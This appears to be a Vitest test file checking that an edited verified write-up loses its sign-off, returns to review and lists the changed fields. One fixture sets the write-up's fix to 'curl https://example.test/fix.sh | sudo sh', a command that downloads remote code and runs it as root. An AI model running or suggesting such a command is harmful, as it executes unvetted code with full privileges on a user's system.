import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { confirmStillCorrect, reviewList } from "~/knowledge/health.server";
import {
  changesSinceVerified,
  createWriteup,
  getWriteup,
  updateWriteup,
  type WriteupInput,
} from "~/knowledge/writeups.server";
import { assignmentMentorOf } from "~/mentoring/writeup-access.server";
import { buildTestUser } from "../../seeds/builders";
import { createTestDatabase, type TestDatabase } from "../support/db";

// Issue 12 item 14: verified means verified. A sign-off vouches for the content it saw; any change
// to that content clears it, sends the write-up back to review, and its page says what changed.

let t: TestDatabase;
beforeEach(async () => {
  t = await createTestDatabase();
});
afterEach(async () => {
  await t.close();
});

const T0 = new Date("2026-11-02T09:00:00Z");
const later = (days: number) => new Date(T0.getTime() + days * 86_400_000);

const content: WriteupInput = {
  title: "결제 웹훅 서명 불일치 (signature mismatch)",
  symptom: "PG 웹훅이 401로 거절돼요.",
  component: "payments",
  rootCause: "본문을 파싱한 뒤 서명을 계산했어요.",
  fix: "원본 바이트로 서명을 검증해요.",
  debugging: "",
  resolution: "fixed",
  tags: ["webhook"],
  links: [],
  toil: [],
};

async function verifiedWriteup() {
  const lead = await buildTestUser(t.db, "lead", { name: "최유나" });
  const author = await buildTestUser(t.db, "newcomer", { name: "김민준" });
  const id = await createWriteup(
    t.db,
    { authorId: author, writeup: content, status: "published" },
    T0,
  );
  expect((await confirmStillCorrect(t.db, { writeupId: id, userId: lead }, later(1))).ok).toBe(
    true,
  );
  expect((await getWriteup(t.db, id))?.verified_at).not.toBeNull();
  return { id, author, lead };
}

describe("editing a verified write-up", () => {
  it("clears the verification, puts it back in review and names what changed", async () => {
    const { id, author } = await verifiedWriteup();
    const edited = await updateWriteup(
      t.db,
      {
        viewer: { id: author, role: "newcomer" },
        writeupId: id,
        writeup: { ...content, fix: "curl https://example.test/fix.sh | sudo sh" },
      },
      later(2),
      assignmentMentorOf,
    );
    expect(edited.ok).toBe(true);
    const after = await getWriteup(t.db, id);
    expect(after?.verified_at).toBeNull();
    expect(after?.verified_by).toBeNull();

    const changes = await changesSinceVerified(t.db, id);
    expect(changes?.fields).toEqual(["Fix"]);
    expect(changes?.verifiedBy).toBe("최유나");

    const review = await reviewList(t.db, later(3));
    expect(review.stale.map((w) => w.writeupId)).toContain(id);
    expect(review.stale.find((w) => w.writeupId === id)?.reason).toEqual({ kind: "edited" });
  });

  it("a save that changes nothing keeps the verification", async () => {
    const { id, author } = await verifiedWriteup();
    const saved = await updateWriteup(
      t.db,
      { viewer: { id: author, role: "newcomer" }, writeupId: id, writeup: content },
      later(2),
      assignmentMentorOf,
    );
    expect(saved.ok).toBe(true);
    expect((await getWriteup(t.db, id))?.verified_at).not.toBeNull();
    expect(await changesSinceVerified(t.db, id)).toBeNull();
  });

  it("a new sign-off makes it verified again, with nothing left to report", async () => {
    const { id, author, lead } = await verifiedWriteup();
    await updateWriteup(
      t.db,
      {
        viewer: { id: author, role: "newcomer" },
        writeupId: id,
        writeup: {
          ...content,
          links: [{ label: "runbook", url: "https://example.test/runbook" }],
        },
      },
      later(2),
      assignmentMentorOf,
    );
    expect((await changesSinceVerified(t.db, id))?.fields).toEqual(["Links"]);
    expect((await confirmStillCorrect(t.db, { writeupId: id, userId: lead }, later(3))).ok).toBe(
      true,
    );
    expect((await getWriteup(t.db, id))?.verified_at).not.toBeNull();
    expect(await changesSinceVerified(t.db, id)).toBeNull();
    const review = await reviewList(t.db, later(4));
    expect(review.stale.map((w) => w.writeupId)).not.toContain(id);
  });
});
